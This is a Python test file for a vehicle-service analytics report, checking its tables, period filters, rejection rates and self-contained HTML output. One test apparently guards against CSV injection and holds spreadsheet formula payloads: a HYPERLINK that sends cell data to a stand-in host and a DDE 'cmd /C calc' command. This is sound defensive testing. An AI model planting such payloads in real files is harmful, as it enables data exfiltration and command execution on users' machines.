"""The insights report on a small dataset with known answers: every table checked, corrected
records counted once at their latest version, and the HTML self-contained."""

from __future__ import annotations

import re
from datetime import date

import orjson
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.duckdb_engine import DuckDbEngine
from adapters.local.in_memory import InMemoryObjectStore
from application.analytics.insights import BuildInsights
from application.processing.process_raw_file import ProcessRawFile
from application.storage_keys import META_INGESTED_AT, META_SUBMISSION_ID
from domain.insights import rejection_rates
from entrypoints.cli.insights_report import write_report
from tests.factories import NOW, a_record
from tests.published import published

AVANZA, XENIA = "MHFXX12G3K1234567", "MHFXX12G3K7654321"
OIL = {"service_code": "SRV-OIL", "service_name": "Ganti oli", "service_cost": 150_000}
BRAKE = {"service_code": "SRV-BRK", "service_name": "Ganti kampas rem", "service_cost": 300_000}
PADS = [{"part_code": "PRT-BRK", "part_name": "Kampas rem", "quantity": 2, "unit_cost": 250_000}]
SURABAYA = {"dealer_id": "DLR-SBY-001", "dealer_name": "Astra Motor Surabaya", "dealer_location": "Surabaya"}


def oil_change(record_id: str, day: str, odometer: int) -> dict:
    return a_record(
        record_id,
        {
            "service_details.service_date": f"{day}T10:00:00+07:00",
            "vehicle.odometer_reading": odometer,
            "service_details.services_performed": [OIL],
        },
    )


def brake_job(record_id: str, day: str, odometer: int, cost: int) -> dict:
    return a_record(
        record_id,
        {
            "dealer": SURABAYA,
            "vehicle": {"vin": XENIA, "model": "Daihatsu Xenia", "year": 2021, "odometer_reading": odometer},
            "service_details.service_date": f"{day}T10:00:00+07:00",
            "service_details.services_performed": [BRAKE],
            "service_details.parts_used": PADS,
            "service_details.total_cost": cost,
        },
    )


@pytest.fixture
def stores(clock):
    raw, cleaned, errors = InMemoryObjectStore(NOW), InMemoryObjectStore(NOW), InMemoryObjectStore(NOW)
    first = [
        oil_change("SR-1", "2026-10-01", 45_000),
        oil_change("SR-2", "2026-10-20", 46_500),  # 19 days and 1,500 km later: a repeat
        oil_change("SR-3", "2026-11-10", 48_000),  # 21 days after SR-2 but 1,500 km: also a repeat
        brake_job("SR-4", "2026-10-05", 20_000, 900_000),
        brake_job("SR-5", "2026-10-10", 24_000, 1_100_000),  # 5 days but 4,000 km: not a repeat
        {**brake_job("SR-6", "2026-10-11", 25_000, 500_000), "vehicle": {"vin": "SHORT", "odometer_reading": 1}},
    ]
    second = [brake_job("SR-4", "2026-10-05", 20_000, 800_000)]  # SR-4 corrected later
    for name, records, ingested in (
        ("a", first, "2026-11-21T00:00:00+00:00"),
        ("b", second, "2026-11-22T00:00:00+00:00"),
    ):
        key = f"service-records/date=2026-11-21/{name}.json"
        raw.put_bytes(key, orjson.dumps(records), metadata={META_INGESTED_AT: ingested, META_SUBMISSION_ID: name})
        ProcessRawFile(raw, cleaned, errors, clock)(key)
    return cleaned, errors


def rows(frame) -> list[dict]:
    return frame.to_dict("records")


def test_every_table_has_the_known_answers(stores) -> None:
    found = BuildInsights(published(*stores), DuckDbEngine())()
    tables = found.tables
    assert found.records == 5  # SR-1..5; SR-4 once; SR-6 rejected
    assert rows(tables["frequent_services"]) == [
        {"model": "Toyota Avanza", "year": 2019, "service_name": "Ganti oli", "services": 3},
        {"model": "Daihatsu Xenia", "year": 2021, "service_name": "Ganti kampas rem", "services": 2},
    ]
    usage = {(r["month"], r["part_name"]): r["quantity"] for r in rows(tables["part_usage_by_month"])}
    assert usage == {
        ("2026-10", "Oli mesin"): 2,
        ("2026-10", "Filter oli"): 2,
        ("2026-10", "Kampas rem"): 4,  # SR-4 counted once, at its latest version
        ("2026-11", "Oli mesin"): 1,
        ("2026-11", "Filter oli"): 1,
    }
    costs = {r["dealer_id"]: r for r in rows(tables["cost_by_dealer"])}
    assert costs["DLR-JKT-001"]["services"] == 3 and costs["DLR-JKT-001"]["mean_cost"] == 650_000
    assert costs["DLR-SBY-001"]["city"] == "Surabaya" and costs["DLR-SBY-001"]["services"] == 2
    assert costs["DLR-SBY-001"]["mean_cost"] == 950_000 and costs["DLR-SBY-001"]["total_cost"] == 1_900_000
    repeats = [
        (r["previous_record_id"], r["service_record_id"], r["days_apart"], r["km_apart"])
        for r in rows(tables["repeat_repairs"])
    ]
    assert repeats == [("SR-1", "SR-2", 19.0, 1_500), ("SR-2", "SR-3", 21.0, 1_500)]
    odometer = {(r["model"], r["service_name"]): r["mean_odometer_km"] for r in rows(tables["odometer_at_repair"])}
    assert odometer == {("Toyota Avanza", "Ganti oli"): 46_500, ("Daihatsu Xenia", "Ganti kampas rem"): 22_000}
    (rate,) = [
        r for r in rows(tables["rejection_rates"]) if r["dealer_id"] == "DLR-SBY-001" and r["rule"] == "vin_format"
    ]
    assert (rate["rejected"], rate["rows"], rate["rate"]) == (1, 4, 0.25)  # 3 rows arrived valid (SR-4 twice), 1 not


def test_a_period_keeps_only_its_services(stores) -> None:
    found = BuildInsights(published(*stores), DuckDbEngine())(since=date(2026, 11, 1), until=date(2026, 11, 30))
    assert found.records == 1
    assert rows(found.tables["frequent_services"])[0]["services"] == 1
    assert found.tables["repeat_repairs"].empty  # SR-3's earlier visit is outside the period


def test_the_report_is_self_contained_with_a_chart_and_a_csv_per_table(stores, tmp_path) -> None:
    path = write_report(BuildInsights(published(*stores), DuckDbEngine())(), tmp_path)
    page = path.read_text()
    charts = re.findall(r'<svg data-chart="([a-z_]+)"', page)
    assert charts == [
        "frequent_services",
        "part_usage_by_month",
        "cost_by_dealer",
        "repeat_repairs",
        "odometer_at_repair",
        "rejection_rates",
    ]
    assert not re.search(r'(src|href)="(https?:)?//', page) and "<script" not in page and "@import" not in page
    for name in charts:
        assert (tmp_path / f"{name}.csv").read_text().count("\n") >= 2
    assert "Budi" not in page  # no customer in the report


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_runs_as_a_formula_in_a_spreadsheet(clock, tmp_path, start) -> None:
    """OWASP's CSV injection rule: dealer text starting with a formula character is quoted in
    every CSV the report writes; numbers (a negative km_apart) stay numbers."""
    import csv

    raw, cleaned, errors = InMemoryObjectStore(NOW), InMemoryObjectStore(NOW), InMemoryObjectStore(NOW)
    name = f'{start}HYPERLINK("http://x.example/?"&A1,"Astra")'
    records = [
        a_record("SR-1", {"dealer.dealer_name": name, "vehicle.model": f"{start}cmd|' /C calc'!A0"}),
        a_record(
            "SR-2",
            {
                "dealer.dealer_name": name,
                "vehicle.model": f"{start}cmd|' /C calc'!A0",
                "vehicle.odometer_reading": 44_000,
                "service_details.service_date": "2026-11-21T10:00:00",
            },
        ),
    ]
    key = "service-records/date=2026-11-21/a.json"
    raw.put_bytes(key, orjson.dumps(records), metadata={META_INGESTED_AT: "2026-11-21T00:00:00+00:00"})
    ProcessRawFile(raw, cleaned, errors, clock)(key)
    write_report(BuildInsights(published(cleaned, errors), DuckDbEngine())(), tmp_path)
    cells = [cell for path in tmp_path.glob("*.csv") for row in csv.reader(path.open(newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'" + name in cells and "'" + f"{start}cmd|' /C calc'!A0" in cells
    assert {"-1000", "-1000.0"} & set(cells)  # km_apart of the repeat (44,000 after 45,000): a number


DEALER_IDS = st.one_of(st.none(), st.sampled_from(["DLR-A", "DLR-B"]))


@given(
    valid=st.lists(st.sampled_from(["DLR-A", "DLR-B"]), max_size=6),
    rejected=st.lists(st.tuples(DEALER_IDS, st.sampled_from(["not_json", "vin_format"])), min_size=1, max_size=6),
)
def test_rejection_rates_hold_for_any_mix_of_known_and_unknown_dealers(valid, rejected) -> None:
    """Rejected rows without a dealer id (an unparseable line) are their own row of the table,
    also when they are the only rejected rows (once a merge of a float and a text key)."""
    fact = pd.DataFrame({"dealer_id": valid}, columns=["dealer_id"])
    rows = [{"dealer_id": dealer, "rule": rule, "row": f"k#{i}"} for i, (dealer, rule) in enumerate(rejected)]
    table = rejection_rates(fact, pd.DataFrame(rows, columns=["dealer_id", "rule", "row"]))
    assert table["rejected"].sum() == len(rows)
    for _, line in table.iterrows():
        dealer = None if pd.isna(line["dealer_id"]) else line["dealer_id"]
        sent = valid.count(dealer) + sum(1 for d, _ in rejected if d == dealer)
        assert line["rows"] == sent and 0 < line["rate"] <= 1


def test_only_rows_without_a_dealer_rejected_is_a_table_not_an_error() -> None:
    fact = pd.DataFrame({"dealer_id": ["DLR-A", "DLR-A"]})
    rejected = pd.DataFrame([{"dealer_id": None, "rule": "not_json", "row": "k#1"}])
    (line,) = rows(rejection_rates(fact, rejected))
    assert pd.isna(line["dealer_id"]) and (line["rule"], line["rejected"], line["rows"], line["rate"]) == (
        "not_json",
        1,
        1,
        1.0,
    )


def ingest(raw, cleaned, errors, clock, name: str, day: str, records: list[dict]) -> None:
    key = f"service-records/date={day}/{name}.json"
    at = f"{day}T00:00:00+00:00"
    raw.put_bytes(key, orjson.dumps(records), metadata={META_INGESTED_AT: at, META_SUBMISSION_ID: name})
    ProcessRawFile(raw, cleaned, errors, clock)(key)


def test_a_correction_that_moves_the_service_date_counts_in_the_new_period_only(clock) -> None:
    """Each record counts once, at its latest version, and then the period applies: the
    version in the period does not count once a later one moved the visit out of it."""
    raw, cleaned, errors = InMemoryObjectStore(NOW), InMemoryObjectStore(NOW), InMemoryObjectStore(NOW)
    ingest(raw, cleaned, errors, clock, "first", "2026-11-02", [oil_change("SR-1", "2026-10-30", 45_000)])
    ingest(raw, cleaned, errors, clock, "fixed", "2026-11-03", [oil_change("SR-1", "2026-11-01", 45_000)])
    october = BuildInsights(published(cleaned, errors), DuckDbEngine())(
        since=date(2026, 10, 1), until=date(2026, 10, 31)
    )
    november = BuildInsights(published(cleaned, errors), DuckDbEngine())(
        since=date(2026, 11, 1), until=date(2026, 11, 30)
    )
    assert (october.records, november.records) == (0, 1)
    assert october.tables["frequent_services"].empty


def test_rejection_rates_take_both_counts_from_the_files_of_the_period(clock) -> None:
    """Numerator and denominator from the same files: those ingested in the period, whatever
    the service dates of their valid rows; a dealer id as sent (' DLR-X ') is the dealer's."""
    raw, cleaned, errors = InMemoryObjectStore(NOW), InMemoryObjectStore(NOW), InMemoryObjectStore(NOW)
    old_visit = oil_change("SR-1", "2026-09-15", 45_000)  # reported late: serviced before the period
    padded = a_record("SR-2", {"vehicle.vin": "SHORT", "dealer.dealer_id": "  DLR-JKT-001 "})
    ingest(raw, cleaned, errors, clock, "late", "2026-11-05", [old_visit, padded])
    ingest(raw, cleaned, errors, clock, "before", "2026-10-05", [oil_change("SR-3", "2026-10-04", 1_000)])
    found = BuildInsights(published(cleaned, errors), DuckDbEngine())(since=date(2026, 11, 1), until=date(2026, 11, 30))
    table = rows(found.tables["rejection_rates"])
    assert [(r["dealer_id"], r["rule"], r["rejected"], r["rows"], r["rate"]) for r in table] == [
        ("DLR-JKT-001", "vin_format", 1, 2, 0.5)
    ]


def test_a_dealer_id_as_the_contract_reads_it() -> None:
    from domain.record_identity import id_as_read

    assert [id_as_read(v) for v in (" DLR-X ", "DLR-X", 12345, "   ", "", None, True, 1.5, ["x"])] == [
        "DLR-X",
        "DLR-X",
        "12345",
        None,
        None,
        None,
        None,
        "1.5",
        None,
    ]
